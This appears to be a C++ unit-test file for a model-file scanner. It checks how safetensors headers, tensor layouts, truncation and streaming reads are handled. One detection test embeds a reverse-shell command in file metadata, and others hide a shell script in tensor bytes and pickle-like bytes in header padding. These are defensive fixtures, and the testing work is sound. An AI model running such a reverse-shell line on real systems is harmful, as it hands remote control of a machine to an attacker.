#include "scanner/core/kept.hpp"
#include "tests/support/fuzz_format.hpp"
#include "tests/support/scan_bytes.hpp"

#include <gtest/gtest.h>

namespace hubgate {
namespace {

using test::find_rule;
using test::has_gap;
using test::is_clean;
using test::scan_bytes;
using test::show;

std::string file(std::string header, std::size_t data) {
  std::string out;
  for (int i = 0; i < 8; ++i)
    out += static_cast<char>(header.size() >> (8 * i));
  return out + header + std::string(data, '\x07');
}

std::string tensor(std::string_view dtype, std::string_view shape, std::uint64_t begin,
                   std::uint64_t end) {
  return R"({"dtype":")" + std::string(dtype) + R"(","shape":[)" + std::string(shape) +
         R"(],"data_offsets":[)" + std::to_string(begin) + "," + std::to_string(end) + "]}";
}

std::string good() {
  return file(R"({"__metadata__":{"format":"pt"},"a":)" + tensor("F32", "2,3", 0, 24) + R"(,"z":)" +
                  tensor("F16", "0,4", 24, 24) + R"(,"b":)" + tensor("BF16", "5", 24, 34) + "}  ",
              34);
}

// The rule fires, and the file counts as unreadable: no conforming loader opens it.
void expect_refused(const std::string& bytes, std::string_view rule) {
  const Report report = scan_bytes(bytes);
  EXPECT_NE(find_rule(report, rule), nullptr) << show(report);
  EXPECT_TRUE(has_gap(report, Reason::malformed)) << show(report);
}

TEST(Safetensors, accepts_what_the_reference_writes) {
  const Report report = scan_bytes(good());
  EXPECT_TRUE(is_clean(report)) << show(report);
  EXPECT_EQ(report.format, "safetensors");
  EXPECT_TRUE(is_clean(scan_bytes(file("{}", 0))));
  EXPECT_TRUE(is_clean(scan_bytes(file(R"({"a":)" + tensor("F4", "4", 0, 2) + "}", 2))));
  EXPECT_TRUE(is_clean(scan_bytes(file(R"({"a":)" + tensor("F6_E2M3", "4", 0, 3) + "}", 3))));
  EXPECT_TRUE(is_clean(scan_bytes(file(R"({"a":)" + tensor("C64", "", 0, 8) + "}", 8))));
}

TEST(Safetensors, is_never_clean_when_cut) {
  const std::string whole = good();
  // The first byte alone is a letter.
  for (std::size_t n = 2; n < whole.size(); ++n) {
    const Report report = scan_bytes(std::string_view(whole).substr(0, n));
    EXPECT_FALSE(is_clean(report)) << n << " " << show(report);
  }
}

TEST(Safetensors, header_length_is_bounded) {
  std::string bytes = good();
  for (int i = 0; i < 8; ++i)
    bytes[static_cast<std::size_t>(i)] = '\xff';
  expect_refused(bytes, "safetensors-header-length");
  std::string longer = good();
  longer[2] = '\x10';
  expect_refused(longer, "safetensors-header-length");
}

TEST(Safetensors, sees_duplicate_keys_at_every_level) {
  const std::string one = tensor("U8", "4", 0, 4);
  expect_refused(file(R"({"a":)" + one + R"(,"a":)" + tensor("U8", "4", 4, 8) + "}", 8),
                 "safetensors-duplicate-key");
  expect_refused(file(R"({"a":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}})", 1),
                 "safetensors-duplicate-key");
}

TEST(Safetensors, ranges_tile_the_data) {
  expect_refused(
      file(R"({"a":)" + tensor("U8", "4", 0, 4) + R"(,"b":)" + tensor("U8", "4", 2, 6) + "}", 6),
      "safetensors-layout");
  expect_refused(file(R"({"a":)" + tensor("U8", "4", 4, 8) + "}", 8), "safetensors-layout");
  expect_refused(
      file(R"({"a":)" + tensor("U8", "4", 0, 4) + R"(,"b":)" + tensor("U8", "0", 2, 2) + "}", 4),
      "safetensors-layout");
}

TEST(Safetensors, size_follows_from_shape_and_type) {
  expect_refused(file(R"({"a":)" + tensor("F32", "4", 0, 4) + "}", 4), "safetensors-tensor-size");
  expect_refused(file(R"({"a":)" + tensor("F4", "3", 0, 1) + "}", 1), "safetensors-tensor-size");
  expect_refused(file(R"({"a":)" + tensor("U8", "4294967296,4294967296,16", 0, 0) + "}", 0),
                 "safetensors-header-json");
}

TEST(Safetensors, trailing_bytes_are_a_finding_and_an_object) {
  const Report report = scan_bytes(good() + "\x01\x02\x03zzz");
  EXPECT_NE(find_rule(report, "safetensors-trailing-bytes"), nullptr);
  EXPECT_NE(find_rule(report, "trailing-data"), nullptr);
}

TEST(Safetensors, header_ends_in_blanks_only) {
  expect_refused(file("{}  \x80\x04N.", 0), "safetensors-header-padding");
  expect_refused(file("\n{\"a\":" + tensor("U8", "1", 0, 1) + "}", 1), "safetensors-header-json");
}

TEST(Safetensors, metadata_holds_strings_and_they_are_read) {
  expect_refused(file(R"({"__metadata__":{"a":1}})", 0), "safetensors-metadata");
  const Report report =
      scan_bytes(file(R"({"__metadata__":{"a":"bash -i >& /dev/tcp/127.0.0.1/9 0>&1"}})", 0));
  ASSERT_NE(find_rule(report, "embedded-script"), nullptr) << show(report);
  EXPECT_TRUE(report.complete());
  EXPECT_TRUE(is_clean(scan_bytes(file(R"({"__metadata__":{"a":"call model.eval() first"}})", 0))));
}

TEST(Safetensors, refuses_wrong_fields) {
  for (const std::string_view bad: {R"({"a":1})", R"({"a":{"dtype":"U8","shape":[1]}})",
                                    R"({"a":{"dtype":"X","shape":[0],"data_offsets":[0,0]}})",
                                    R"({"a":{"dtype":"U8","shape":[-1],"data_offsets":[0,0]}})",
                                    R"({"a":{"dtype":"U8","shape":[0.0],"data_offsets":[0,0]}})",
                                    R"({"a":{"dtype":"U8","shape":[0],"data_offsets":[1,0]}})",
                                    R"({"a":{"dtype":"U8","shape":[0],"data_offsets":[0]}})"})
    expect_refused(file(std::string(bad), 0), "safetensors-header-json");
}

TEST(Safetensors, flood_of_empty_tensors_is_seen) {
  std::string header = "{";
  for (int i = 0; i < 2000; ++i)
    header += (i == 0 ? "\"" : ",\"") + std::to_string(i) + "\":" + tensor("U8", "0", 0, 0);
  expect_refused(file(header + "}", 0), "safetensors-empty-tensors");
}

struct Heard final : ReportSink {
  void on_finding(const Finding&) override {}
  void on_gap(const Gap&) override {}
  void on_release(std::uint64_t offset) override { released = offset; }
  void on_rest_is_inert(std::uint64_t from) override { inert = from; }
  std::uint64_t released = 0;
  std::uint64_t inert = 0;
};

// A source that fails the test when a byte between header and tail is asked for.
class HeaderOnly final : public Source {
public:
  HeaderOnly(std::string header, std::uint64_t size) : header_(std::move(header)), size_(size) {}
  std::optional<std::uint64_t> size() override { return size_; }
  Bytes view(std::uint64_t offset, std::size_t n) override {
    if (offset >= size_) return {};
    n = static_cast<std::size_t>(std::min<std::uint64_t>(n, size_ - offset));
    buffer_.assign(n, 0);
    for (std::size_t i = 0; i < n && offset + i < header_.size(); ++i)
      buffer_[i] = static_cast<std::uint8_t>(header_[offset + i]);
    if (offset >= header_.size() && offset + k_held_tail < size_) touched_ = true;
    return buffer_;
  }
  bool random_access() override { return false; }
  std::uint64_t wait_end() override { return size_; }
  bool touched() const { return touched_; }

private:
  std::string header_;
  std::uint64_t size_;
  std::vector<std::uint8_t> buffer_;
  bool touched_ = false;
};

TEST(Safetensors, two_gibibytes_need_only_their_header) {
  const std::uint64_t data = std::uint64_t{2} << 30;
  const std::string header =
      file(R"({"a":)" + tensor("U8", std::to_string(data), 0, data) + "}", 0);
  HeaderOnly source(header, header.size() + data);
  Heard heard;
  const Report report = scan_object(all_formats(), source, {}, &heard);
  EXPECT_TRUE(is_clean(report)) << show(report);
  EXPECT_FALSE(source.touched());
  EXPECT_EQ(heard.inert, header.size());
  EXPECT_GE(heard.released, header.size() + data - k_held_tail);
}

// Weights that stream by: once the rest is given up only what was asked for can be read.
class Passing final : public KeepingSource {
public:
  explicit Passing(std::string bytes) : bytes_(std::move(bytes)) {}
  std::optional<std::uint64_t> size() override { return bytes_.size(); }
  Bytes view(std::uint64_t offset, std::size_t n) override {
    const Bytes all = as_bytes(bytes_);
    if (offset >= all.size()) return {};
    n = static_cast<std::size_t>(std::min<std::uint64_t>(n, all.size() - offset));
    const bool asked = std::any_of(kept().begin(), kept().end(), [&](const KeptRange& range) {
      return offset >= range.begin && offset + n <= range.begin + range.length;
    });
    const bool here = offset < k_head || offset + k_held_tail >= all.size();
    if (!here && !(ended_ && asked)) lost_ = true;
    return all.subspan(static_cast<std::size_t>(offset), n);
  }
  bool random_access() override { return false; }
  std::uint64_t wait_end() override {
    ended_ = true;
    return bytes_.size();
  }
  bool lost() const { return lost_; }

private:
  static constexpr std::uint64_t k_head = Probe::k_head;
  std::string bytes_;
  bool ended_ = false;
  bool lost_ = false;
};

TEST(Safetensors, weights_that_stream_by_are_sampled_like_those_that_are_here) {
  constexpr std::size_t k_numbers = std::size_t{1} << 20;
  std::string bytes =
      file(R"({"a":)" + tensor("F32", std::to_string(k_numbers), 0, 4 * k_numbers) + R"(,"b":)" +
               tensor("F32", std::to_string(k_numbers), 4 * k_numbers, 8 * k_numbers) + "}",
           0);
  const std::size_t data = bytes.size();
  for (std::size_t i = 0; i < 2 * k_numbers; ++i)
    bytes += std::string_view("\0\0\0\x3f", 4);
  const std::string hidden = "#!/bin/sh\necho hubgate-inert-marker\n" + std::string(64, ' ');
  for (std::size_t i = 0; i < hidden.size(); ++i)
    bytes[data + 4 * k_numbers + 4 * i] = hidden[i];
  Passing source(bytes);
  Heard heard;
  const Report passed = scan_object(all_formats(), source, {}, &heard);
  EXPECT_FALSE(source.lost());
  EXPECT_EQ(heard.inert, data);
  EXPECT_EQ(source.kept().size(), 2U);
  const Report here = scan_bytes(bytes);
  ASSERT_NE(find_rule(here, "tensor-steganography"), nullptr) << show(here);
  ASSERT_NE(find_rule(passed, "tensor-steganography"), nullptr) << show(passed);
  EXPECT_EQ(show(passed), show(here));
}

TEST(Safetensors, an_object_of_unknown_size_must_reach_its_logical_end) {
  const std::string whole = good();
  test::ArrivingSource all(as_bytes(whole));
  EXPECT_TRUE(is_clean(scan_object(all_formats(), all, {}, nullptr)));
  test::ArrivingSource cut(as_bytes(whole).first(whole.size() - 1));
  EXPECT_TRUE(has_gap(scan_object(all_formats(), cut, {}, nullptr), Reason::truncated));
}

TEST(Safetensors, text_is_not_claimed) {
  const Report report = scan_bytes(R"([1,2,3,{"dtype": "U8"}])");
  EXPECT_NE(report.format, "safetensors");
}

} // namespace
} // namespace hubgate
